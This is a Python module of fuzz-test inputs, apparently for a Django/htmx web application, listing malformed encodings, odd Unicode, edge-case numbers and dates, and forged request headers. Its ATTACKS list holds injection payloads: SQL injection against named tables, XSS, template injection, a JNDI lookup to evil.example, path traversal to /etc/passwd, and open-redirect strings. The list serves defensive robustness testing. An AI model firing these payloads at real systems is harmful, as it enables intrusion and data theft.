"""What people, programs and attackers put where something else belongs."""

from random import Random

#: Half characters and other encodings: bytes that are not UTF-8, as they stand in a form's body or an address.
NOT_UTF8 = (
    b"%ED%A0%80",
    b"%ff%fe",
    b"caf%e9",
    b"%C0%80",
    b"%F4%90%80%80",
    b"%e2%28%a1",
    b"\xff\xfe",
    b"a%00b",
    b"%",
    b"%zz",
)

CONTROL = (
    "\x00",
    "a\x00b",
    "\x01\x02\x1b[31m",
    "\r\nSet-Cookie: a=b",
    "a\nb\rc\td\x0b\x0c",
    "\x7f\x85\x9f",
    "\u2028\u2029",
)
ODD = (
    "\u202eabc\u202c",
    "\u200b\u200d\ufeff",
    "\ufffe\uffff\ufffd",
    "👩‍👩‍👧‍👦🏳️‍🌈\U0001f600",
    "é" * 50,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    "\U0010ffff\U000e0001",
    "ﷺ" * 40,
    "İıſK",
)
NUMBERS = (
    *("-1", "0", "00", "+1", "1.5", "1e5", "1e400", "-0", "NaN", "Infinity", "0x10", "1_000", "٣", "²", "①", "1,000"),
    *("2147483648", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "9" * 40, "9" * 5000),
    *("0.0000001", "1E+1000000", " 7 ", "7;", "--7"),
)
DATES = (
    *("2023-02-29", "2024-02-29", "0000-01-01", "0001-01-01", "9999-12-31", "10000-01-01", "1899-12-31", "2026-13-45"),
    *("2026-03-08T02:30", "2026-11-01T01:30", "2026-03-08 02:30", "0001-01-01T00:00", "9999-12-31T23:59"),
    *("2026-03-08T02:30:00+14:00", "9999-12-31T23:59:59-12:00", "0001-01-01T00:00:00+23:59", "24:00", "99:99"),
    *("2026-W53-7", "2026-366", "now", "today", "-2026-01-01", "20260101", "2026-01-01T00:00:00.0000001Z", "1/2/3"),
)
KEYS = (
    "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "{12345678-1234-5678-1234-567812345678}",
    "urn:uuid:12345678-1234-5678-1234-567812345678",
    "12345678123456781234567812345678",
    "12345678-1234-5678-1234-56781234567g",
    "not-a-uuid",
)
ATTACKS = (
    "'; DROP TABLE leads_lead;--",
    "' OR '1'='1",
    "1) UNION SELECT password FROM leads_user--",
    "%' ESCAPE '",
    "\\",
    "%_%\\%",
    "<script>alert(1)</script>",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "..\\..\\boot.ini",
    "=HYPERLINK(1)",
    "//evil.example/x",
    "https://evil.example@testserver/",
    "javascript:alert(1)",
    "http://[",
    "http://[::1",
    "/\\evil.example",
    "%s%s%n%d%(name)s",
    "{0}{1}{name}",
    "(" * 60 + "a+" + ")" * 60,
    "__class__.__mro__",
    "[1,2,3]",
    '{"a": {"$gt": ""}}',
    "null",
    "undefined",
    "true",
)
LENGTHS = (100, 255, 256, 1_000, 10_000, 100_000, 1_000_000)

#: What a request may say beside its form. Each is sent with any of the values below it, or with one from above.
HEADERS: dict[str, tuple[str, ...]] = {
    "HX-Request": ("true", "false", "1"),
    "HX-Current-URL": ("http://testserver/", "http://[", "http://testserver/?as_of=9999-99-99", "//x", "/leads/1/"),
    "HX-Target": ("dialog", "<b>", "a" * 5000),
    "HX-Source": ("form", "\xff"),
    "HX-Boosted": ("true",),
    "HX-History-Restore-Request": ("true",),
    "HX-Prompt": ("\xff\xfe",),
    "HX-Current-URL-URI-AutoEncoded": ("true",),
    "Triggering-Event": ("{", "null", "[" * 3000),
    "If-Match": ('"x"', "*", "W/", '"' * 300),
    "If-None-Match": ("*", "a,b,c", '"' * 300),
    "If-Modified-Since": ("yesterday", "Thu, 01 Jan 1970 00:00:00 GMT", "Mon, 99 Foo 99999 99:99:99 GMT"),
    "If-Unmodified-Since": ("x",),
    "Range": ("bytes=0-", "bytes=9-1", "bytes=-" + "9" * 30, "bytes=a-b", "lines=1-2"),
    "Accept": ("application/json", "*/*;q=x", ",,,;;;"),
    "Accept-Language": ("es", "xx-YY;q=9,*;q=-1", "a" * 600, "en;q=0.5;q=", "zh-hans-" * 60, "\xff"),
    "Accept-Encoding": ("gzip;q=x", "br", "*;q=0"),
    "Accept-Charset": ("utf-16",),
    "X-Forwarded-For": ("127.0.0.1", "not an address", "1.2.3.4, " * 200, "::1%eth0"),
    "X-Forwarded-Host": ("evil.example",),
    "X-Forwarded-Proto": ("https", "gopher"),
    "X-HTTP-Method-Override": ("DELETE",),
    "X-Requested-With": ("XMLHttpRequest",),
    "Origin": ("null", "https://evil.example", "http://[", "http://testserver"),
    "Referer": ("http://[", "https://evil.example/", "http://testserver/leads/1/", "\xff"),
    "Host": ("evil.example", "testserver:99999", "[::1", "a b", "", "testserver.", "TESTSERVER"),
    "Cookie": (
        "hindsight_language=xx; hindsight_language=es",
        "hindsight_language=" + "a" * 3000,
        "messages=garbage:x",
        "=; ;;; a",
        "hindsight_csrf=\xff\xfe",
        '"\\000\\377',
    ),
    "Authorization": ("Basic Og==", "Bearer x"),
    "Content-Encoding": ("gzip", "br"),
    "Content-Length": ("-1", "abc", "", "99999999999999999999", "٣"),
    "Transfer-Encoding": ("chunked",),
    "Expect": ("100-continue",),
    "Content-Type": (
        "application/json",
        "text/plain",
        "application/x-www-form-urlencoded; charset=utf-16",
        "application/x-www-form-urlencoded; charset=latin-1",
        "application/x-www-form-urlencoded; charset=hex",
        "application/x-www-form-urlencoded; charset=nothing",
        "text/plain; charset=hex",
        "text/plain; charset=idna",
        "text/plain; charset=rot13",
        "text/plain; charset=utf-7",
        "text/plain; charset=undefined",
        "multipart/form-data",
        "multipart/form-data; boundary=",
        "multipart/form-data; boundary=" + "x" * 300,
        "multipart/form-data; boundary=\xff",
        "multipart/form-data; boundary*=nothing''x%20y",
        "text/plain; a*=nothing''x%20y",
        "a; b*0*=x; b*1=y; b*x*=z",
        ";;;=",
        "",
        "/",
    ),
}


def any_value(chance: Random) -> str:
    """Something that somebody might type or send, seldom very long."""
    kind = chance.choice((CONTROL, ODD, NUMBERS, NUMBERS, DATES, DATES, KEYS, ATTACKS, ATTACKS, ("",), ("long",)))
    if kind == ("long",):
        # A megabyte now and then: it takes as long as a hundred others.
        weights = (20, 20, 20, 20, 12, 6, 2)
        return chance.choice("xé🏡 1=<\t") * chance.choices(LENGTHS, weights)[0]
    return chance.choice(kind)
